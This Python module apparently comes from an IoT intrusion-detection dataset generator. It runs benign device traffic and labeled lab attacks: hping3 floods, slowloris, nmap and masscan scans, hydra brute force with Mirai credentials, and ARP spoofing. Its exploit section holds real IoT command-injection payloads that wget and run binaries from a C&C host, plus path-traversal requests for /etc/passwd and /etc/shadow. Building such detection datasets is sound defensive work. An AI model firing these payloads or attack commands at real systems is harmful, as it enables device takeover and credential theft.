"""The scenario catalogue: benign IoT traffic and attacks, each run with real tools in the lab.

A scenario runs on one IoT LAN (drawn per scenario), whose bridge is what gets recorded. It picks
its attacker, victims, rates and sizes from its own random stream (the run's seed and its name),
so a run is reproducible and two scenarios of one run do not look alike. Every program it starts
is bounded twice: by its own packet count, attempt count or deadline, and by a timeout after
which the lab kills it.

Labels: a pure scenario's capture holds only its own traffic and is labeled as a whole. A mixed
scenario adds attacks to benign background traffic and writes flow rules (attacker and victim
addresses, protocol, port) naming the attack flows, in both directions; other flows are benign.
"""


from __future__ import annotations

import subprocess
import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from iotscan.lab.netns import WAN, Host
from iotscan.lab.scenario import (
    CATALOGUE,
    FAMILIES,
    FlowRule,
    Scenario,
    ScenarioContext,
    ScenarioFunc,
    label_flow,
    scenario,
    select,
    write_rules,
)
from iotscan.lab.services import (
    CLOUD_NAMES,
    COMMON_PASSWORDS,
    MIRAI_CREDENTIALS,
)

__all__ = ["CATALOGUE", "FAMILIES", "FlowRule", "Scenario", "ScenarioContext", "label_flow", "select", "write_rules"]

TCP = 6


# -- benign building blocks -------------------------------------------------------------------------

def _mqtt_sensors(ctx: ScenarioContext, seconds: float, rate: float = 1.0) -> list[subprocess.Popen[Any]]:
    """Sensors publishing to the LAN hub's broker (persistent and wake-publish-sleep), the phone
    subscribed to them, and the hub reporting to the cloud broker."""
    hub = ctx.services.device(ctx.segment, "hub")
    user, password = hub.mqtt
    rng = ctx.rng
    procs = []
    rooms = rng.sample(["kitchen", "living", "garage", "bedroom", "porch", "cellar", "attic"], 3)
    for i, room in enumerate(rooms[:2]):
        interval = rng.uniform(1.0, 5.0) / rate
        procs.append(ctx.agent("sensor", "mqtt-sensor", "--host", ctx.ip("hub"), "--user", user, "--password",
                               password, "--topic", f"home/{room}/climate", "--client-id", f"th-{room}-{i}",
                               "--qos", rng.choice([0, 0, 1]), "--keepalive", rng.choice([30, 60, 120]),
                               "--interval", f"{interval:.2f}", "--jitter", "0.3",
                               "--count", int(seconds / interval) + 1, "--deadline", f"{seconds:.1f}"))
    interval = rng.uniform(4.0, 10.0) / rate
    procs.append(ctx.agent("sensor", "mqtt-sensor", "--host", ctx.ip("hub"), "--user", user, "--password",
                           password, "--topic", f"home/{rooms[2]}/door", "--client-id", f"door-{rooms[2]}",
                           "--mode", "per-message", "--interval", f"{interval:.2f}", "--jitter", "0.5",
                           "--count", int(seconds / interval) + 1, "--deadline", f"{seconds:.1f}"))
    procs.append(ctx.start("phone", ["mosquitto_sub", "-h", ctx.ip("hub"), "-u", user, "-P", password,
                                     "-t", "home/#", "-i", f"app-{rng.randrange(16**6):06x}",
                                     "-W", int(seconds), "-q", rng.choice([0, 1])]))
    cloud_user, cloud_password = ctx.services.cloud_mqtt
    interval = rng.uniform(5.0, 15.0) / rate
    procs.append(ctx.agent("hub", "mqtt-sensor", "--host", ctx.ip("cloud"), "--user", cloud_user, "--password",
                           cloud_password, "--topic", f"dev/{rng.randrange(16**8):08x}/telemetry",
                           "--client-id", f"hub-{rng.randrange(16**6):06x}", "--interval", f"{interval:.2f}",
                           "--jitter", "0.2", "--count", int(seconds / interval) + 1, "--deadline", f"{seconds:.1f}"))
    ctx.notes.append(f"MQTT sensors {ctx.ip('sensor')} -> hub {ctx.ip('hub')}:1883, app {ctx.ip('phone')} "
                     f"subscribed, hub -> cloud {ctx.ip('cloud')}:1883")
    return procs


def _coap_polls(ctx: ScenarioContext, seconds: float, rate: float = 1.0) -> list[subprocess.Popen[Any]]:
    procs = []
    for client in ("sensor", "phone"):
        interval = ctx.rng.uniform(1.0, 4.0) / rate
        uris = [f"coap://{ctx.ip(dev)}/{path}" for dev in ("hub", "cam")
                for path in ("time", "example_data", ".well-known/core", "")]
        args: list[Any] = ["coap-poll"]
        for uri in uris:
            args += ["--uri", uri]
        procs.append(ctx.agent(client, *args, "--interval", f"{interval:.2f}", "--jitter", "0.4",
                               "--observe-every", ctx.rng.choice([0, 5, 8]),
                               "--observe-seconds", int(min(8, seconds / 3)) + 1,
                               "--count", int(seconds / interval) + 1, "--deadline", f"{seconds:.1f}"))
    ctx.notes.append(f"CoAP GETs from {ctx.ip('sensor')} and {ctx.ip('phone')} to {ctx.ip('hub')} and {ctx.ip('cam')}")
    return procs


def _http_polls(ctx: ScenarioContext, seconds: float, rate: float = 1.0) -> list[subprocess.Popen[Any]]:
    procs = []
    for dev in ("hub", "cam"):
        device = ctx.services.device(ctx.segment, dev)
        interval = ctx.rng.uniform(2.0, 6.0) / rate
        procs.append(ctx.agent("phone", "http-poll", "--url", f"http://{ctx.ip(dev)}/", "--user", device.http[0],
                               "--password", device.http[1], "--snapshot-every", 4 if dev == "cam" else 0,
                               "--user-agent", ctx.rng.choice(["okhttp/4.9.2", "Dalvik/2.1.0 (Linux; U; Android 11)",
                                                               "HomeApp/3.2 CFNetwork/1220.1 Darwin/20.3.0"]),
                               "--interval", f"{interval:.2f}", "--jitter", "0.3",
                               "--count", int(seconds / interval) + 1, "--deadline", f"{seconds:.1f}"))
    cam = ctx.services.device(ctx.segment, "cam")
    interval = ctx.rng.uniform(5.0, 10.0) / rate
    procs.append(ctx.agent("hub", "http-poll", "--url", f"http://{ctx.ip('cam')}/", "--user", cam.http[0],
                           "--password", cam.http[1], "--user-agent", "hub-agent/1.0",
                           "--interval", f"{interval:.2f}", "--jitter", "0.1",
                           "--count", int(seconds / interval) + 1, "--deadline", f"{seconds:.1f}"))
    ctx.notes.append(f"HTTP polling {ctx.ip('phone')} -> {ctx.ip('hub')}:80 and {ctx.ip('cam')}:80, "
                     f"{ctx.ip('hub')} -> {ctx.ip('cam')}:80")
    return procs


def _dns_ntp(ctx: ScenarioContext, seconds: float, rate: float = 1.0) -> list[subprocess.Popen[Any]]:
    procs = []
    names = ",".join(ctx.rng.sample(CLOUD_NAMES, 5))
    for client in ("hub", "cam", "sensor"):
        interval = ctx.rng.uniform(2.0, 8.0) / rate
        procs.append(ctx.agent(client, "dns-client", "--server", ctx.ip("cloud"), "--names", names,
                               "--interval", f"{interval:.2f}", "--jitter", "0.5",
                               "--count", int(seconds / interval) + 1, "--deadline", f"{seconds:.1f}"))
        interval = ctx.rng.uniform(4.0, 12.0) / rate
        procs.append(ctx.agent(client, "ntp-client", "--server", ctx.ip("cloud"), "--interval", f"{interval:.2f}",
                               "--jitter", "0.2", "--count", int(seconds / interval) + 1,
                               "--deadline", f"{seconds:.1f}"))
    ctx.notes.append(f"DNS and NTP from {ctx.ip('hub')}, {ctx.ip('cam')}, {ctx.ip('sensor')} to {ctx.ip('cloud')}")
    return procs


def _background(ctx: ScenarioContext, seconds: float) -> list[subprocess.Popen[Any]]:
    """Everyday traffic of the LAN at a lower rate: the benign side of a mixed capture."""
    return (_mqtt_sensors(ctx, seconds, 0.7) + _coap_polls(ctx, seconds, 0.5) + _http_polls(ctx, seconds, 0.6)
            + _dns_ntp(ctx, seconds, 0.7))


# -- benign scenarios -------------------------------------------------------------------------------

@scenario("benign-mqtt", "benign", "", 25, ["mosquitto_pub", "mosquitto_sub"])
def benign_mqtt(ctx: ScenarioContext) -> None:
    """MQTT sensors at sensor-like rates (persistent and wake-publish-sleep), an app subscribed, the
    hub reporting to the cloud broker."""
    seconds = ctx.secs(25, 4)
    ctx.wait(_mqtt_sensors(ctx, seconds), seconds + 8)


@scenario("benign-coap", "benign", "", 20, ["coap-client-notls"])
def benign_coap(ctx: ScenarioContext) -> None:
    """CoAP GETs and observes of the devices' resources from a sensor and a phone."""
    seconds = ctx.secs(20, 4)
    ctx.wait(_coap_polls(ctx, seconds), seconds + 15)


@scenario("benign-http-poll", "benign", "", 20, [])
def benign_http_poll(ctx: ScenarioContext) -> None:
    """A phone app polling both device panels (state, snapshots) with basic auth; the hub polling the camera."""
    seconds = ctx.secs(20, 4)
    ctx.wait(_http_polls(ctx, seconds), seconds + 8)


@scenario("benign-dns-ntp", "benign", "", 20, [])
def benign_dns_ntp(ctx: ScenarioContext) -> None:
    """Devices resolving their cloud names and asking the time (DNS to dnsmasq, NTP)."""
    seconds = ctx.secs(20, 4)
    ctx.wait(_dns_ntp(ctx, seconds), seconds + 5)


@scenario("benign-firmware", "benign", "", 15, ["curl"])
def benign_firmware(ctx: ScenarioContext) -> None:
    """Firmware-sized downloads (1 to 6 MB, rate-limited like a slow uplink) after a version check."""
    seconds = ctx.secs(15, 4)
    deadline = time.monotonic() + seconds
    for dev in ctx.rng.sample(["hub", "cam"], 2):
        if time.monotonic() >= deadline:
            break
        size = int(ctx.rng.uniform(1, 6) * 1024 * 1024 * max(0.1, min(1.0, ctx.scale)))
        rate = ctx.rng.choice([600, 1000, 2000, 4000])  # KB/s
        limit = max(2.0, deadline - time.monotonic())
        version = ctx.rng.choice(["1.2.7", "2.0.3", "3.1.0", "5.5.2"])
        ctx.run(dev, ["curl", "-s", "-o", "/dev/null", "-m", "5", "-A", f"{dev}-ota/{version}",
                      "-H", "Host: fw.iot-vendor-cloud.com",
                      f"http://{ctx.ip('cloud')}/firmware/manifest-{ctx.rng.randrange(300, 900)}.bin"], 8)
        ctx.run(dev, ["curl", "-s", "-o", "/dev/null", "-m", f"{limit:.0f}", "--limit-rate", f"{rate}K",
                      "-A", f"{dev}-ota/{version}", "-H", "Host: fw.iot-vendor-cloud.com",
                      f"http://{ctx.ip('cloud')}/firmware/{dev}-v{version}-{size}.bin"], limit + 3)
        ctx.notes.append(f"firmware {ctx.ip(dev)} <- {ctx.ip('cloud')}:80, {size // 1024} KB at {rate} KB/s")


@scenario("benign-home", "benign", "", 30, ["mosquitto_pub", "mosquitto_sub", "coap-client-notls"])
def benign_home(ctx: ScenarioContext) -> None:
    """All the everyday traffic of one LAN at once: MQTT, CoAP, HTTP polling, DNS and NTP."""
    seconds = ctx.secs(30, 4)
    ctx.wait(_background(ctx, seconds), seconds + 15)


# -- denial of service ----------------------------------------------------------------------------------

def _flood(ctx: ScenarioContext, attacker: Host, victim: Host, kind: str, rate: int, seconds: float,
           port: int | None = None, spoof: bool = False) -> subprocess.Popen[Any]:
    """hping3 at rate packets/s for about seconds, bounded by its packet count (-c)."""
    count = max(10, min(int(rate * seconds), 40000))
    argv: list[Any] = ["hping3", "-q", "-c", count, "-i", f"u{max(1, 1_000_000 // rate)}"]
    if kind == "syn":
        argv += ["-S", "-p", port or 80, "-w", ctx.rng.choice([64, 512, 1024, 5840])]
    elif kind == "ack":
        argv += ["-A", "-p", port or 80]
    elif kind == "udp":
        argv += ["--udp", "-p", port or 5683, "-d", ctx.rng.choice([16, 64, 256, 512, 1024])]
    elif kind == "icmp":
        argv += ["--icmp", "-d", ctx.rng.choice([56, 120, 512, 1200])]
    if kind in ("syn", "ack") and ctx.rng.random() < 0.3:
        argv += ["-d", ctx.rng.choice([20, 120, 512])]
    if spoof:
        argv += ["--rand-source"]
    argv.append(ctx.lab.require_target(victim.ip))
    ctx.notes.append(f"hping3 {kind} flood {rate} pps x {count} from {attacker.ip}"
                     f"{' (random spoofed sources)' if spoof else ''} to {victim.ip}{f':{port}' if port else ''}")
    return ctx.start(attacker.role, argv)


def _flood_scenario(kind: str, ports: Sequence[int | None], rates: Sequence[int], spoof: bool = False) -> ScenarioFunc:
    def run(ctx: ScenarioContext) -> None:
        attacker = ctx.attacker(("atk1", "atk2") if spoof else ("atk1", "atk2", "bot"))
        victim = ctx.host(ctx.rng.choice(["hub", "cam"]))
        seconds = ctx.secs(ctx.rng.uniform(5, 8), 1)
        if spoof:
            ctx.involve(victim)  # the sources are random: the victim is what every flow has
        proc = _flood(ctx, attacker, victim, kind, ctx.rng.choice(list(rates)), seconds,
                      ctx.rng.choice(list(ports)), spoof=spoof)
        ctx.wait([proc], seconds * 2 + 10)
    return run


scenario("dos-syn-flood", "attack", "dos", 8, ["hping3"],
         description="hping3 TCP SYN flood from one attacker at a device's open port (300 to 2500 pps)")(
    _flood_scenario("syn", [80, 22, 23, 1883], [300, 1000, 2500]))
scenario("dos-ack-flood", "attack", "dos", 8, ["hping3"],
         description="hping3 TCP ACK flood from one attacker at a device")(
    _flood_scenario("ack", [80, 443, 1883], [300, 1000, 2500]))
scenario("dos-udp-flood", "attack", "dos", 8, ["hping3"],
         description="hping3 UDP flood with random payload sizes at CoAP, DNS-like or closed ports")(
    _flood_scenario("udp", [5683, 53, 1900, 12345], [300, 1000, 2500]))
scenario("dos-icmp-flood", "attack", "dos", 8, ["hping3"],
         description="hping3 ICMP echo flood with small to large payloads")(
    _flood_scenario("icmp", [None], [200, 600, 1500]))
scenario("ddos-syn-spoofed", "attack", "ddos", 8, ["hping3"],
         description="hping3 SYN flood from random spoofed sources (one flow per packet, one-way, as a botnet's)")(
    _flood_scenario("syn", [80, 1883, 23], [500, 1500, 3000], spoof=True))


@scenario("ddos-multi-source", "attack", "ddos", 8, ["hping3"])
def ddos_multi_source(ctx: ScenarioContext) -> None:
    """Two outside attackers and a compromised LAN device flooding one device at once (SYN, UDP, ICMP)."""
    victim = ctx.host(ctx.rng.choice(["hub", "cam"]))
    seconds = ctx.secs(ctx.rng.uniform(5, 8), 1)
    procs = []
    for attacker in ("atk1", "atk2", "bot"):
        ctx.involve(ctx.host(attacker))
        kind = ctx.rng.choice(["syn", "udp", "icmp", "syn"])
        port = {"syn": ctx.rng.choice([80, 23]), "udp": 5683, "icmp": None}[kind]
        procs.append(_flood(ctx, ctx.host(attacker), victim, kind, ctx.rng.choice([200, 600, 1200]), seconds, port))
    ctx.wait(procs, seconds * 2 + 10)


@scenario("dos-slowloris", "attack", "dos", 15, ["slowhttptest"])
def dos_slowloris(ctx: ScenarioContext) -> None:
    """slowhttptest slowloris: many connections sending headers slowly to a device's web panel."""
    attacker = ctx.attacker()
    victim = ctx.host(ctx.rng.choice(["hub", "cam"]))
    seconds = ctx.secs(15, 3)
    connections = ctx.rng.choice([100, 200, 300])
    interval = ctx.rng.choice([3, 5, 10])
    ctx.notes.append(f"slowloris from {attacker.ip} to {victim.ip}:80, {connections} connections, "
                     f"a header line every {interval}s")
    ctx.run(attacker.role, ["slowhttptest", "-H", "-c", connections, "-i", interval,
                            "-r", ctx.rng.choice([50, 100, 200]), "-s", 8192, "-t", "GET",
                            "-u", f"http://{ctx.lab.require_target(victim.ip)}/", "-x", 24, "-p", 3,
                            "-l", int(seconds)], seconds + 15)


# -- reconnaissance ---------------------------------------------------------------------------------------

def _devices(ctx: ScenarioContext) -> list[str]:
    return [ctx.ip("hub"), ctx.ip("cam")]


@scenario("scan-nmap-syn", "attack", "scan", 12, ["nmap"])
def scan_nmap_syn(ctx: ScenarioContext) -> None:
    """nmap TCP SYN scan of the top 100 to 1000 ports of both devices."""
    attacker = ctx.attacker()
    ports = ctx.rng.choice([100, 300, 1000])
    timing = ctx.rng.choice(["-T3", "-T4", "-T4", "-T5"])
    ctx.notes.append(f"nmap -sS top {ports} ports {timing} from {attacker.ip} to {', '.join(_devices(ctx))}")
    ctx.run(attacker.role, ["nmap", "-n", "-Pn", "-sS", "--top-ports", ports, timing, "--max-retries", "1",
                            "--host-timeout", f"{int(ctx.secs(20, 3))}s", *_devices(ctx)], ctx.secs(25, 5) + 10)


@scenario("scan-nmap-connect", "attack", "scan", 12, ["nmap"])
def scan_nmap_connect(ctx: ScenarioContext) -> None:
    """nmap TCP connect scan (full handshakes) of ports 1-1024 or more of both devices."""
    attacker = ctx.attacker()
    last = ctx.rng.choice([1024, 2048, 5000])
    ctx.notes.append(f"nmap -sT ports 1-{last} from {attacker.ip} to {', '.join(_devices(ctx))}")
    ctx.run(attacker.role, ["nmap", "-n", "-Pn", "-sT", "-p", f"1-{last}", ctx.rng.choice(["-T4", "-T5"]),
                            "--max-retries", "1", "--host-timeout", f"{int(ctx.secs(20, 3))}s", *_devices(ctx)],
            ctx.secs(25, 5) + 10)


@scenario("scan-nmap-udp", "attack", "scan", 15, ["nmap"])
def scan_nmap_udp(ctx: ScenarioContext) -> None:
    """nmap UDP scan of the top UDP ports of a device (CoAP, DNS, SNMP, SSDP...)."""
    attacker = ctx.attacker()
    victim = ctx.ip(ctx.rng.choice(["hub", "cam"]))
    ports = ctx.rng.choice([20, 40, 60])
    ctx.notes.append(f"nmap -sU top {ports} ports from {attacker.ip} to {victim}")
    ctx.run(attacker.role, ["nmap", "-n", "-Pn", "-sU", "--top-ports", ports, "-T4", "--max-retries", "1",
                            "--host-timeout", f"{int(ctx.secs(15, 3))}s", victim], ctx.secs(15, 3) + 15)


@scenario("scan-nmap-version", "attack", "scan", 15, ["nmap"])
def scan_nmap_version(ctx: ScenarioContext) -> None:
    """nmap service and version detection (-sV) of the devices' IoT ports."""
    attacker = ctx.attacker()
    ctx.notes.append(f"nmap -sV from {attacker.ip} to {', '.join(_devices(ctx))}")
    ctx.run(attacker.role, ["nmap", "-n", "-Pn", "-sV", ctx.rng.choice(["--version-light", "--version-intensity=5"]),
                            "-p", "21,22,23,80,443,554,1883,2323,8080", "-T4",
                            "--host-timeout", f"{int(ctx.secs(15, 3))}s", *_devices(ctx)], ctx.secs(15, 3) + 15)


@scenario("scan-masscan", "attack", "scan", 10, ["masscan"])
def scan_masscan(ctx: ScenarioContext) -> None:
    """masscan of the whole LAN for the ports IoT malware looks for, from outside."""
    attacker = ctx.attacker(("atk1", "atk2"))
    rate = ctx.rng.choice([400, 800, 1500])
    all_ports = ["23", "22", "80", "2323", "1883", "21", "81", "443", "554", "5555", "7547", "8080", "8443",
                 "37215", "52869"]
    ports = ",".join(all_ports[: max(3, int(len(all_ports) * min(1.0, ctx.scale)))])  # a quick run scans fewer
    network = ctx.network
    probes = ctx.lab.plan.networks[ctx.segment].num_addresses * len(ports.split(","))
    ctx.notes.append(f"masscan {network} ports {ports} at {rate} pps from {attacker.ip}")
    # masscan writes its own frames: it must be told the router's MAC, and there is no default route.
    # It sometimes keeps waiting after its --wait; the timeout ends it once every probe is out.
    ctx.run(attacker.role, ["masscan", network, "-p", ports, "--rate", rate, "--wait", "2", "--interface", "eth0",
                            "--router-mac", ctx.lab.plan.router_macs[WAN], "--seed", ctx.rng.randrange(1 << 30)],
            probes / rate + 5)


@scenario("scan-ping-sweep", "attack", "scan", 10, ["nmap", "fping"])
def scan_ping_sweep(ctx: ScenarioContext) -> None:
    """A ping sweep of the LAN: nmap host discovery from outside, or fping from a compromised device."""
    network = ctx.network
    if ctx.rng.random() < 0.5:
        attacker = ctx.attacker(("atk1", "atk2"))
        ctx.notes.append(f"nmap -sn {network} from {attacker.ip}")
        ctx.run(attacker.role, ["nmap", "-n", "-sn", network, "-T4", "--max-retries", "1"], ctx.secs(20, 5) + 10)
    else:
        attacker = ctx.attacker(("bot",))
        ctx.notes.append(f"fping -g {network} from {attacker.ip}")
        ctx.run(attacker.role, ["fping", "-a", "-q", "-g", network, "-r", "0", "-i", ctx.rng.choice([5, 10, 20]),
                                "-t", "300"], ctx.secs(20, 5) + 10)


@scenario("scan-mirai-telnet", "attack", "scan", 10, ["nmap"])
def scan_mirai_telnet(ctx: ScenarioContext) -> None:
    """Mirai-style telnet probing: SYNs to ports 23 and 2323 across the LAN in random order."""
    attacker = ctx.attacker()
    network = ctx.network
    rate = ctx.rng.choice([50, 150, 400])
    ctx.notes.append(f"SYN probes to 23 and 2323 of {network} at {rate} pps from {attacker.ip}")
    ctx.run(attacker.role, ["nmap", "-n", "-Pn", "-sS", "-p", "23,2323", "--randomize-hosts", "--max-retries", "0",
                            "--max-rate", rate, network], ctx.secs(20, 5) + 10)


# -- password guessing ----------------------------------------------------------------------------------

def _wordlist(ctx: ScenarioContext) -> Path:
    """user:password lines: the Mirai list and common passwords, in an order and length of this scenario."""
    pairs = list(MIRAI_CREDENTIALS) + [(u, p) for p in COMMON_PASSWORDS for u in ("admin", "root")]
    ctx.rng.shuffle(pairs)
    pairs = pairs[: ctx.rng.randint(60, len(pairs))]
    path = ctx.lab.workdir / f"wordlist-{ctx.rng.randrange(1 << 32):08x}.txt"
    path.write_text("".join(f"{u}:{p}\n" for u, p in pairs))
    return path


def _hydra(ctx: ScenarioContext, service: str, port: int, kind: str | None = None) -> None:
    attacker = ctx.attacker()
    kind = kind or ctx.rng.choice(["hub", "cam"])
    victim = ctx.ip(kind)
    tasks = ctx.rng.choice([6, 8, 12] if service == "telnet" else [2, 4, 8])
    stop = ctx.rng.random() < 0.5  # -f: stop at the first valid pair, or go on through the list
    creds = _wordlist(ctx)
    ctx.notes.append(f"hydra {service} on {victim}:{port} from {attacker.ip}, Mirai and common credentials, "
                     f"{tasks} tasks{', stops at the first hit' if stop else ''}")
    argv: list[Any] = ["hydra", "-C", creds, "-t", tasks, *(["-f"] if stop else []), "-I", "-s", port, victim,
                       service]
    if service == "http-get":
        argv.append("/")
    ctx.run(attacker.role, argv, ctx.secs(30, 5) + 10)


@scenario("bruteforce-telnet", "attack", "bruteforce", 10, ["hydra"])
def bruteforce_telnet(ctx: ScenarioContext) -> None:
    """hydra guessing telnet logins (port 23 or 2323) with the Mirai default-credential list."""
    _hydra(ctx, "telnet", ctx.rng.choice([23, 23, 2323]))


@scenario("bruteforce-ssh", "attack", "bruteforce", 10, ["hydra"])
def bruteforce_ssh(ctx: ScenarioContext) -> None:
    """hydra guessing SSH passwords with the Mirai default-credential list."""
    _hydra(ctx, "ssh", 22)


@scenario("bruteforce-http", "attack", "bruteforce", 8, ["hydra"])
def bruteforce_http(ctx: ScenarioContext) -> None:
    """hydra guessing the web panel's HTTP basic-auth password."""
    _hydra(ctx, "http-get", 80)


@scenario("bruteforce-mqtt", "attack", "bruteforce", 10, ["mosquitto_pub"])
def bruteforce_mqtt(ctx: ScenarioContext) -> None:
    """MQTT password guessing against the hub's broker, one CONNECT per guess (hydra 9.4 has no MQTT module,
    so mosquitto_pub makes the attempts)."""
    attacker = ctx.attacker()
    interval = ctx.rng.choice([0.05, 0.1, 0.25])
    ctx.notes.append(f"MQTT CONNECT guesses (Mirai and common credentials) every {interval}s from {attacker.ip} to "
                     f"{ctx.ip('hub')}:1883")
    proc = ctx.agent(attacker.role, "mqtt-brute", "--host", ctx.ip("hub"), "--creds", _wordlist(ctx),
                     "--interval", interval, "--jitter", "0.3", "--count", 200, "--deadline", f"{ctx.secs(20, 3):.1f}",
                     *(["--stop-on-success"] if ctx.rng.random() < 0.5 else []))
    ctx.wait([proc], ctx.secs(20, 3) + 10)


# -- exploits -----------------------------------------------------------------------------------------------

_INJECTIONS: tuple[tuple[str, str, str | None, dict[str, str]], ...] = (
    ("GET", "/cgi-bin/ping.cgi?host=127.0.0.1;wget%20http://{cnc}/bins/mips%20-O%20/tmp/m;sh%20/tmp/m", None, {}),
    ("GET", "/cgi-bin/ping.cgi?host=`busybox%20wget%20http://{cnc}/x.sh%20-O-|sh`", None, {}),
    ("GET", "/cgi-bin/ping.cgi?host=$(cat%20/etc/passwd)", None, {}),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://{cnc}/jaws;sh+/tmp/jaws", None, {}),
    ("POST", "/GponForm/diag_Form?images/",
     "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://{cnc}/gpon+-O+/tmp/g;sh+/tmp/g`"
     "&ipv=0", {}),
    ("POST", "/HNAP1/", "<?xml version=\"1.0\"?><soap:Envelope/>",
     {"SOAPAction": "http://purenetworks.com/HNAP1/`cd /tmp && wget http://{cnc}/d && sh d`"}),
    ("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{cnc}/Mozi.m+-O+/tmp/n;"
     "sh+/tmp/n&curpath=/&currentsetting.htm=1", None, {}),
    ("POST", "/boaform/admin/formLogin", "username=admin&psd=Feefifofum", {}),
    ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)", None, {}),
    ("POST", "/tmUnblock.cgi", "ttcp_ip=-h+`cd+/tmp;+wget+http://{cnc}/t`&action=&ttcp_num=2&ttcp_size=2"
     "&submit_button=&change_action=&commit=0&StartEPI=1", {}),
    ("POST", "/command.php", "cmd=cd+/tmp+%26%26+wget+http://{cnc}/dlink+%26%26+sh+dlink", {}),
    ("GET", "/cgi-bin/config.exp", None, {}),
)
_TRAVERSALS = (
    "/../../../../etc/passwd", "/cgi-bin/download.cgi?file=../../../../etc/shadow",
    "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/cgi-bin/download.cgi?file=/etc/passwd", "/cgi-bin/download.cgi?file=....//....//....//etc/passwd",
    "/web/cgi-bin/hi3510/param.cgi?cmd=../../../../../etc/passwd", "/device.rsp?opt=../../../etc/passwd",
    "/cgi-bin/download.cgi?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fconfig%2fwireless",
)
_ATTACK_AGENTS = ("Hello, World", "Mozilla/5.0", "python-requests/2.25.1", "Wget(linux)", "curl/7.68.0",
                  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.150")


def _http_requests(ctx: ScenarioContext, attacker: Host, victim: str,
                   requests: Sequence[tuple[str, str, str | None, dict[str, str]]], deadline: float) -> int:
    """One curl per request (a new connection each, as exploit scanners do), paced by the rng."""
    agent = ctx.rng.choice(_ATTACK_AGENTS)
    victim = ctx.lab.require_target(victim)
    cnc = str(ctx.host("cnc").ip)  # named in payloads only, never contacted
    sent = 0
    for method, path, body, headers in requests:
        if time.monotonic() >= deadline:
            break
        argv: list[Any] = ["curl", "-s", "-o", "/dev/null", "-m", "4", "--path-as-is", "-A", agent, "-X", method]
        for name, value in headers.items():
            argv += ["-H", f"{name}: {value.format(cnc=cnc)}"]
        if body is not None:
            argv += ["--data-raw", body.format(cnc=cnc)]
        argv.append(f"http://{victim}{path.format(cnc=cnc)}")
        ctx.run(attacker.role, argv, 6)
        sent += 1
        ctx.sleep(ctx.rng.uniform(0.05, 0.5))
    return sent


@scenario("exploit-cmd-injection", "attack", "exploit", 10, ["curl"])
def exploit_cmd_injection(ctx: ScenarioContext) -> None:
    """HTTP requests carrying the command injections of IoT malware (GPON, JAWS, HNAP, Netgear, Realtek
    Boa, LuCI...) against a device's panel."""
    attacker = ctx.attacker()
    victim = ctx.ip(ctx.rng.choice(["hub", "cam"]))
    picks = [ctx.rng.choice(_INJECTIONS) for _ in range(ctx.rng.randint(20, 40))]
    sent = _http_requests(ctx, attacker, victim, picks, time.monotonic() + ctx.secs(14, 3))
    ctx.notes.append(f"{sent} command-injection requests from {attacker.ip} to {victim}:80")


@scenario("exploit-path-traversal", "attack", "exploit", 8, ["curl"])
def exploit_path_traversal(ctx: ScenarioContext) -> None:
    """HTTP path-traversal requests for /etc/passwd and configuration files against a device's panel."""
    attacker = ctx.attacker()
    victim = ctx.ip(ctx.rng.choice(["hub", "cam"]))
    picks = [("GET", ctx.rng.choice(_TRAVERSALS), None, {}) for _ in range(ctx.rng.randint(15, 30))]
    sent = _http_requests(ctx, attacker, victim, picks, time.monotonic() + ctx.secs(12, 3))
    ctx.notes.append(f"{sent} path-traversal requests from {attacker.ip} to {victim}:80")


# -- spoofing --------------------------------------------------------------------------------------------------

@scenario("spoofing-arp", "attack", "spoofing", 25, ["arpspoof", "mosquitto_pub", "coap-client-notls"])
def spoofing_arp(ctx: ScenarioContext) -> None:
    """dsniff's arpspoof puts the compromised device between a sensor and the hub (ARP replies both ways,
    forwarding on), while the sensor talks to the hub: every IP packet of theirs crosses the LAN twice."""
    attacker, sensor, hub = ctx.host("bot"), ctx.host("sensor"), ctx.host("hub")
    ctx.involve(sensor, hub)
    seconds = ctx.secs(15, 4)
    ctx.lab.exec_quiet(attacker.role, ["sysctl", "-q", "-w", "net.ipv4.ip_forward=1"])
    try:
        # The victims already know each other (a stale entry, as after earlier traffic): the poisoned
        # replies then overwrite it at once, and no flow of theirs goes direct. Linux ignores
        # unsolicited replies for addresses it has no entry for.
        for a, b in ((sensor, hub), (hub, sensor)):
            ctx.lab.exec_quiet(a.role, ["ip", "neigh", "replace", str(b.ip), "lladdr", b.mac, "dev", "eth0",
                                        "nud", "stale"])
        spoof = ctx.start(attacker.role, ["arpspoof", "-i", "eth0", "-t", ctx.lab.require_target(sensor.ip), "-r",
                                          ctx.lab.require_target(hub.ip)])
        ctx.sleep(3)  # poisoned before the sensor starts talking: its flows are all intercepted
        device = ctx.services.device(ctx.segment, "hub")
        user, password = device.mqtt
        interval = ctx.rng.uniform(0.6, 1.5)
        hub_ip = ctx.ip("hub")
        traffic = [
            ctx.agent("sensor", "http-poll", "--url", f"http://{hub_ip}/", "--user", device.http[0], "--password",
                      device.http[1], "--interval", f"{interval:.2f}", "--count", int(seconds / interval) + 1,
                      "--deadline", f"{seconds:.1f}"),
            ctx.agent("sensor", "mqtt-sensor", "--host", hub_ip, "--user", user, "--password", password, "--topic",
                      "home/hall/motion", "--client-id", "pir-hall", "--mode", "per-message",
                      "--interval", f"{interval * 1.5:.2f}", "--count", int(seconds / interval) + 1,
                      "--deadline", f"{seconds:.1f}"),
            ctx.agent("sensor", "coap-poll", "--uri", f"coap://{hub_ip}/time", "--interval", f"{interval:.2f}",
                      "--count", int(seconds / interval) + 1, "--deadline", f"{seconds:.1f}"),
        ]
        ctx.wait(traffic, seconds + 10)
        ctx.notes.append(f"arpspoof on {attacker.ip} ({attacker.mac}) between {sensor.ip} and {hub.ip}, "
                         "forwarding; the flows are the sensor's, intercepted")
        ctx.lab.stop(spoof, grace=8.0)  # arpspoof re-ARPs the true addresses when it stops
    finally:
        ctx.lab.exec_quiet(attacker.role, ["sysctl", "-q", "-w", "net.ipv4.ip_forward=0"])
        for host in ctx.lab.plan.in_segment(ctx.segment):  # no poisoned cache outlives the scenario
